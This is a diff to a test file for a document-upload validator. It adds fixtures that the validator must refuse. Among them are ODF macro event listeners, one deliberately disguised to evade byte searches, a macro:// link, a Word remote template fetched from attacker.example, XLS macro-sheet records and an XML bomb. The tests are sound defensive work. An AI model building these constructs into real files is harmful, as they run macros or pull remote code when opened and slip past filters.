@@ -79,7 +79,12 @@ def ooxml(*content_types, parts=()):
 
 def odf(mimetype, *parts):
     return zipped(
-        {"mimetype": mimetype, "content.xml": "<office:document/>"} | dict.fromkeys(parts, "")
+        {
+            "mimetype": mimetype,
+            "content.xml": '<office:document xmlns:office="urn:oasis:names:tc:opendocument:'
+            'xmlns:office:1.0"/>',
+        }
+        | dict.fromkeys(parts, "")
     )
 
 
@@ -90,7 +95,10 @@ def odf_with_content(mimetype, content):
 
 # A document event that runs a macro of the document when it is opened.
 EVENT_LISTENER = (
-    b"<office:document-content><office:scripts><office:event-listeners>"
+    b'<office:document-content xmlns:office="urn:oasis:names:tc:opendocument:xmlns:office:1.0" '
+    b'xmlns:script="urn:oasis:names:tc:opendocument:xmlns:script:1.0" '
+    b'xmlns:xlink="http://www.w3.org/1999/xlink">'
+    b"<office:scripts><office:event-listeners>"
     b'<script:event-listener script:language="ooo:script" script:event-name="dom:load" '
     b'xlink:href="vnd.sun.star.script:Standard.Module1.Main?language=Basic&amp;location=document"/>'
     b"</office:event-listeners></office:scripts></office:document-content>"
@@ -100,7 +108,7 @@ EVENT_LISTENER = (
 FREE, END, FAT_SECTOR, NONE = 0xFFFFFFFF, 0xFFFFFFFE, 0xFFFFFFFD, 0xFFFFFFFF
 
 
-def ole(*streams, storages=()):
+def ole(*streams, storages=(), contents=None):
     """A compound file (the container of DOC and XLS files) with a stream of
     4 096 bytes for each name in ``streams`` and an empty storage for each in
     ``storages``, in 512-byte sectors: the FAT, the directory, then the streams."""
@@ -140,7 +148,7 @@ def ole(*streams, storages=()):
             start = first_stream_sector + len(data) // 512
             entries.append(entry(name, 2, right=right, start=start, size=4096))
             fat += [*range(start + 1, start + 8), END]
-            data += name.encode().ljust(4096, b"\0")
+            data += (contents or {}).get(name, name.encode()).ljust(4096, b"\0")
         else:
             entries.append(entry(name, 1, right=right))
     entries += [entry("", 0)] * (entry_count - len(entries))
@@ -168,6 +176,58 @@ def ole(*streams, storages=()):
     return header + fat_sector + b"".join(entries) + data
 
 
+ODF_NAMESPACES = (
+    'xmlns:office="urn:oasis:names:tc:opendocument:xmlns:office:1.0" '
+    'xmlns:xlink="http://www.w3.org/1999/xlink" '
+)
+# The event listener under another prefix, its address with a character
+# reference: the same to an XML parser, other bytes to a search.
+EVENT_LISTENER_DISGUISED = (
+    f"<office:document-content {ODF_NAMESPACES}"
+    'xmlns:s="urn:oasis:names:tc:opendocument:xmlns:script:1.0">'
+    "<office:scripts><office:event-listeners>"
+    '<s:event-listener s:language="ooo:script" s:event-name="dom:load" '
+    'xlink:href="vnd&#46;sun.star.script:share.py$run?language=Python&amp;location=share"/>'
+    "</office:event-listeners></office:scripts></office:document-content>"
+).encode()
+MACRO_LINK = (
+    f'<office:document-content {ODF_NAMESPACES} xmlns:text="urn:oasis:names:tc:opendocument:'
+    'xmlns:text:1.0"><office:body><office:text><text:p><text:a xlink:href="macro:///Standard.'
+    'Module1.Main">Open</text:a></text:p></office:text></office:body></office:document-content>'
+).encode()
+ODF_LINK = (
+    f'<office:document-content {ODF_NAMESPACES} xmlns:text="urn:oasis:names:tc:opendocument:'
+    'xmlns:text:1.0"><office:body><office:text><text:p><text:a xlink:href="https://asean.org/">'
+    "ASEAN</text:a></text:p></office:text></office:body></office:document-content>"
+).encode()
+RELATIONSHIPS = "http://schemas.openxmlformats.org/officeDocument/2006/relationships"
+
+
+def ooxml_with_relationship(kind, target):
+    """A Word document one of whose parts is ``target`` outside the file."""
+    rels = (
+        '<Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships">'
+        f'<Relationship Id="rId1" Type="{RELATIONSHIPS}/{kind}" Target="{target}" '
+        'TargetMode="External"/></Relationships>'
+    )
+    package = zipfile.ZipFile(io.BytesIO(ooxml(DOCX)))
+    entries = {name: package.read(name) for name in package.namelist()}
+    return zipped(entries | {"word/_rels/settings.xml.rels": rels})
+
+
+def workbook_with_sheet(sheet_type):
+    """An Excel 97-2003 workbook stream: BOF, then one BOUNDSHEET record."""
+    name = b"\x02\x00M1"
+    record = struct.pack("<IBB", 0, 0, sheet_type) + name
+    stream = (
+        struct.pack("<HH", 0x0809, 16)
+        + bytes(16)
+        + struct.pack("<HH", 0x0085, len(record))
+        + record
+    )
+    return ole("Workbook", contents={"Workbook": stream})
+
+
 ACCEPTED = [
     ("report.pdf", pdf),
     ("REPORT.PDF", pdf),
@@ -178,6 +238,9 @@ ACCEPTED = [
     ("figures.ods", lambda: odf(ODS)),
     ("decision.doc", lambda: ole("WordDocument", "\x05SummaryInformation")),
     ("budget.xls", lambda: ole("Workbook")),
+    ("minutes.odt", lambda: odf_with_content(ODT, ODF_LINK)),
+    ("plan.docx", lambda: ooxml_with_relationship("hyperlink", "https://asean.org/")),
+    ("budget.xls", lambda: workbook_with_sheet(0x00)),
     ("photo.jpg", lambda: image("JPEG")),
     ("photo.jpeg", lambda: image("JPEG")),
     ("map.png", lambda: image("PNG")),
@@ -206,7 +269,16 @@ REFUSED = [
     ("minutes.odt", lambda: odf(ODT, "SCRIPTS/python/run.py"), "macros"),
     ("minutes.odt", lambda: odf(ODT, "Object 1/Basic/Standard/Module1.xml"), "macros"),
     ("minutes.odt", lambda: odf_with_content(ODT, EVENT_LISTENER), "macros"),
-    ("minutes.odt", lambda: odf_with_content(ODT, b"<x/>" * (16 * 1024 * 1024 + 1)), "not_allowed"),
+    ("minutes.odt", lambda: odf_with_content(ODT, EVENT_LISTENER_DISGUISED), "macros"),
+    ("minutes.odt", lambda: odf_with_content(ODT, MACRO_LINK), "macros"),
+    (
+        "plan.docx",
+        lambda: ooxml_with_relationship("attachedTemplate", "https://attacker.example/t.dotm"),
+        "external",
+    ),
+    ("table.xlsx", lambda: ooxml(XLSX, "application/vnd.ms-excel.macrosheet+xml"), "macros"),
+    ("budget.xls", lambda: workbook_with_sheet(0x01), "macros"),
+    ("budget.xls", lambda: workbook_with_sheet(0x06), "macros"),
     ("decision.doc", lambda: ole("WordDocument", storages=["Macros"]), "macros"),
     ("budget.xls", lambda: ole("Workbook", storages=["_VBA_PROJECT_CUR"]), "macros"),
     ("report.html", pdf, "name"),
@@ -240,6 +312,18 @@ def test_allowed_documents_are_accepted_by_their_content(name, make):
 )
 def test_other_content_is_refused(name, make, code):
     assert refusal(name, make()).code == code
+
+
+def test_an_opendocument_whose_xml_is_too_large_to_read_through_is_refused(monkeypatch):
+    """A compressed bomb: millions of empty elements, read within a budget and
+    without keeping them."""
+    from asean_portal.core import documents
+
+    monkeypatch.setattr(documents, "ODF_MAX_XML_BYTES", 4 * 1024 * 1024)
+    content = b"<r>" + b"<x/>" * (1024 * 1024 + 1) + b"</r>"
+    assert refusal("minutes.odt", odf_with_content(ODT, content)).code == "not_allowed"
+    fits = b"<r>" + b"<x/>" * (1024 * 1024 - 2) + b"</r>"
+    document_with("minutes.odt", odf_with_content(ODT, fits)).clean_fields()
 
 
 def test_files_over_the_size_limit_are_refused(settings):
